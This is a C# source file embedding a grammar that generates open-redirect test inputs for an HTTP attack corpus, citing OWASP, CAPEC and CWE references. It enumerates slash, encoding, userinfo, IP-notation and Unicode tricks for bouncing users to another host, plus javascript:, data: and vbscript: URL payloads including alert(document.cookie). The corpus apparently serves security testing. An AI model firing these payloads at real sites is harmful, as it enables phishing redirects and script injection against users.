namespace Weir.Http.Corpus.Attacks.Other;

/// <summary>Targets that look like a path of the same site and lead to another one.</summary>
/// <remarks>OWASP WSTG-CLNT-04, CAPEC-194, CWE-601; WHATWG URL (what a browser makes of slashes, blanks and userinfo).</remarks>
internal static class Redirects
{
    public const string Text = """"
        §redirectout
        6× «bounce»
        3× «rparam»=«bounce»
        2× «rparam»=«outurl»
        3× «trickurl»
        2× «rparam»=«bounce→url»
        2× /«login¦logout¦redirect¦out¦go¦sso¦auth¦signin¦cgi-bin/redirect.cgi¦r¦oauth/authorize»«?«rparam»=¦/»«bounce»
        2× /«¦redirect¦login¦go»?«rchain»
        /«slashes»«evilhost»«/%2f..¦/..¦/%2e%2e¦/¦»
        «javascripturl»
        «bounce→slashusome»
        §rchain
        «rparam»=«$b:bounce»«&«rparam»=«$b»¦&«rparam»=«$b»&«rparam»=«$b»¦&«rparam»=«$b»&«rparam»=«$b»&«rparam»=«$b»&«rparam»=«$b»»

        ¶ The host says nothing: what counts is how the browser finds it.
        §bounce
        8× «leap»«anyhost»«leaptail»
        5× «leap»«mask»«anyhost»«leaptail»
        4× «plainleap»«mask»«anyhost»«leaptail»
        4× «plainleap»«anyhost»«trailmask»
        3× «plainleap»«anyhost»«odd»«friend»«¦/»
        3× «oddleap»«oddaddress»«¦/¦/«word»»
        4× «plainleap»«mask»«oddaddress»«¦/»
        3× «oddleap»«mask»«oddaddress»«¦/»
        2× «oddleap»«mask»«anyhost»«¦/¦//»
        2× «plainleap»«friend».«anyhost»«¦/¦/%2f..¦/%2e%2e»
        §plainleap
        4× //
        4× «http¦https»://
        2× /«http¦https»://
        //«http¦https»://
        §leap
        4× ///
        3× ////
        2× /////
        4× /\
        2× \/\/
        2× /\/
        2× \
        \
        2× ///\;@
        2× /%09/
        2× //%09/
        ///%09/
        ////%09/
        2× /%5c
        2× //%5c
        ///%5c
        ////%5c
        /%5c%5c
        //%5c%5c
        %5c%5c
        /%2f%5c%2f
        /%2f/
        /%2f%2f
        %2f%2f
        2× «http¦https»:
        2× «http¦https»:/
        2× «http¦https»:///
        «http¦https»:////
        «http¦https»:/\
        «http¦https»:\
        «http¦https»:\
        «http¦https»:/\/\
        «http¦https»:/%5c%5c
        2× /«http¦https»:
        /«http¦https»:/
        2× /«http¦https»:///
        2× //«http¦https»:///
        //«http¦https»://
        «http¦https»://%09/
        «http¦https»://%5c
        /«http¦https»://%5c
        «http¦https»:%0a//
        «http¦https»:␉//
        ␠//
        %20//
        %0d%0a//
        /␉/
        /%0a/
        /%0d/
        /%00/
        //%00/
        «HtTp¦HTTPS¦hTTps¦Https»:
        «Http¦Https¦HTTP»://«anyhost»%2f%2e%2e
        «¦/»%68%74%74%70%3a%2f%2f
        %68%74%74%70%73%3a%2f%2f
        «h%74tp¦ht%74ps»://
        <>//
        [//
        ;//
        .//
        /.//
        /;/
        //;@
        /x://
        «/¦»〱
        «/¦»〵
        «/¦»ゝ
        «/¦»ー
        «/¦»ｰ
        ／／
        /／
        //／
        ？//
        §oddleap
        3× «http¦https»://
        3× «http¦https»:
        2× //
        /\
        ///
        §anyhost
        6× «word».«tld»
        4× «letter*4-10».«com¦net¦org¦«tld»»
        4× «google¦example¦bing¦yahoo¦github¦yandex¦baidu¦wikipedia¦amazon¦twitter¦facebook¦duckduckgo¦msn¦apple¦paypal¦instagram».com
        2× www.«letter*4-9».«tld»
        3× «evilhost»
        «google¦example¦«letter*4-8»»%E3%80%82«com¦«tld»»
        «google¦example¦«letter*4-8»»«。¦．¦｡»«com¦«tld»»
        «letter*3-7»%«2e¦00.»«tld»
        «ip»
        §friend
        3× «www.«letter*4-9».«tld»¦«letter*4-9».«tld»»
        2× «goodhost»
        §mask
        4× «friend»@
        2× «friend»%40
        2× «rand»@
        2× «rand»:«rand»@
        :@
        :«#1-999»@
        «friend»:80@
        «friend»%00@
        «friend»%20@
        «friend»%09@
        «friend»&@
        «friend»;@
        «friend»#@
        «friend»?@
        «friend»\@
        «friend»%5c@
        «friend»%252f@
        «friend»%2f@
        «letter→upper»«letter→upper»>.«digit»«letter»«digit»«letter→upper»\«#100-377»«letter»«letter→upper»@
        [::1]@
        @
        §leaptail
        5×
        3× /
        3× /%2f..
        2× /%2f%2e%2e
        2× /%2e%2e
        2× /%2e%2e%2f
        2× /..
        //
        /..;/css
        //%2f%2e%2e
        /%252e%252e
        /«word»
        /?«word»
        ?
        #
        %00
        %23
        /%0a
        ;
        ,
        &%0d%0a
        §trailmask
        3× /%2f..
        3× /%2f%2e%2e
        2× /%2e%2e
        2× /%2e%2e%2f
        2× //%2f%2e%2e
        /..;/
        //..
        /%252f..
        /%5c..
        /\..
        /.%2e/
        /%2f.
        /«friend»/%2e%2e%2f
        §odd
        \
        2× \@
        %5c
        %5c@
        2× #@
        2× ?@
        %23@
        %3f@
        %00
        %0d%0a
        %23
        %3f
        ;@
        ;
        &@
        %E3%80%82
        %ff@
        %ff.
        %2e
        %bf:
        §oddaddress
        2× «#1000000-4294966»«digit*3-3»
        2× 0x«hexdigit*8»
        2× 0«#200-377».0x«hexdigit*2».«#1000-65535»
        0x«hexdigit*2».0x«hexdigit*2».0x«hexdigit*2».0x«hexdigit*2»
        0x«hexdigit*2».«#1000000-9999999»
        0x«hexdigit*2».0«#10-377».«#1000-65535»
        00«#100-377».«#1000000-9999999»
        0«#100-377».0«#10-377».0«#100-377».0«#100-377»
        00«#100-377».00«#10-377».0000«#100-377».0«#10-377»
        «#1-223».«#1000000-9999999»
        «#256-999».«#256-999».«#256-999».«#256-999»
        [::ffff:«ip»]
        [::«ip»]
        [::ffff:«hexdigit*4»:«hexdigit*4»]
        «ip→hexdot»
        «ip→fullwidth»
        «anyhost→fullwidth»
        §rparam
        «redirect¦redirect_uri¦redirect_url¦redirectUrl¦return¦returnUrl¦return_to¦returnTo¦next¦url¦dest¦destination¦continue¦goto¦go¦target¦rurl¦forward¦callback¦checkout_url¦image_url¦view¦out¦to¦link¦u¦r¦service¦RelayState¦success_url¦ReturnUrl¦back¦ref»
        §outurl
        5× «trickurl»
        3× «http¦https»://«namedevil»«/¦»
        2× //«evilhost»«/¦»
        «javascripturl»
        §slashes
        3× /
        2× \
        «//¦///¦/\¦\/¦\\¦%09/¦%5c¦%2f¦%5c%5c¦/%5c¦/%09/¦%0d/¦%2f%2f¦/./¦;//¦.¦〱¦〵¦ゝ¦ー¦ｰ¦%ff¦%E3%80%B1¦^¦%00/¦%68%74%74%70%3a%2f%2f»
        §trickurl
        3× //«evilhost»/%2f..
        3× //«goodhost»@«evilhost»«/%2f..¦/¦»
        2× /«slashes»«evilhost»
        2× //«evilhost»/%2e%2e%2f
        «http¦https»:«evilhost»
        «http¦https»:/«slashes»«evilhost»
        «http¦https»:///«evilhost»«/%2e%2e¦/%2f..¦»
        «http¦https»://«goodhost»«@¦%40¦%00.¦%20@¦\@¦:80@¦&@¦;@¦%09@¦%5C@»«evilhost»«/¦»
        «http¦https»://«goodhost».«evilhost»«/¦»
        «http¦https»://«evilhost»«?¦#¦%23¦%3F¦\¦/.¦%5c¦%E3%80%82¦;¦%00¦&»«goodhost»
        «http¦https»://«evilhost»/«goodhost»/../
        ////«evilhost»/«%2e%2e¦%2f..¦..;/css¦»
        /////«evilhost»«//¦/¦»
        \/\/«evilhost»/
        /\/«evilhost»
        \\«evilhost»
        //«evilhost»%E3%80%82com
        //«evilhost»%00.«goodhost»
        «http¦https»://«evilhost→fullwidth»
        //«evilhost→fullwidth»
        //«ip→hexdot»
        «http¦https»://«#1000000-4294966»«digit*3-3»/
        /%09/«evilhost»
        /%5c«evilhost»
        //%09/«evilhost»
        //%5c«evilhost»
        //«evilhost»/%2f%2e%2e
        .«evilhost»
        @«evilhost»
        /.«evilhost»
        ?http://«evilhost»/
        /?«rparam»=//«evilhost»
        <>//«evilhost»
        //%01«evilhost»
        〱«evilhost»
        «http¦https»://%5b::1%5d@«evilhost»
        «HtTp¦htTPs¦hTTps»:«//¦/\/\»«evilhost»
        x:http://«evilhost»
        «http¦https»%3A%2F%2F«evilhost»%2F
        %2f%2f«evilhost»
        %5c%5c«evilhost»
        //«evilhost»\@«goodhost»
        «http¦https»://«goodhost»:«rand»@«evilhost»
        «http¦https»://«word»«evilhost»#@«goodhost»
        §jsword
        javascript:
        §goodhost
        «www.»google.com
        «whitelisteddomain¦trusted¦legit¦target¦example¦victim¦bank¦www.«letter*4-8»¦«letter*4-8»».«com¦com¦«tld»¦org»
        «localdomain.pw¦expected.com¦www.paypal.com»
        §javascripturl
        ja␤va␉script␍:alert(«#0-9»)
        ja\nva\tscript\r:alert(«#0-9»)
        «jsword→slashu»alert(«#0-9»)
        «jsword→slashx»alert(«#0-9»)
        «jsword→tabbed»alert(«#0-9»)
        «jsword→case»//%0aalert(document.domain)
        %6a%61%76%61%73%63%72%69%70%74%3aalert(«#0-9»)
        /javascript:alert(«#0-9»)
        //javascript:%0aalert(«#0-9»)
        javascript:«window.»location=«//«anyhost»¦'//«anyhost»'¦name»
        <javascript:alert(«#0-9»)
        \x6A\x61\x76\x61script:«javascript:¦»alert(«#0-9»)
        2× javascript:alert(«1¦document.domain¦document.cookie»)«¦//»
        java%0d%0ascript%0d%0a:alert(«#0-9»)
        javascript://«goodhost»/%0aalert(«#0-9»)
        javascript:%0aalert(1)
        /%09/javascript:alert(1);
        //javascript:alert(1);//
        \j\av\a\s\cr\i\pt\:\a\l\ert\(1\)
        javascript%3aalert(«#0-9»)
        data:text/html;base64,PHNjcmlwdD5hbGVydC«rand→b64»
        data:text/html,<script>alert(«#1-9»)</script>
        jaVAscript://«goodhost»//%0d%0aalert(1);//
        vbscript:msgbox(«#1-9»)
        """";
}
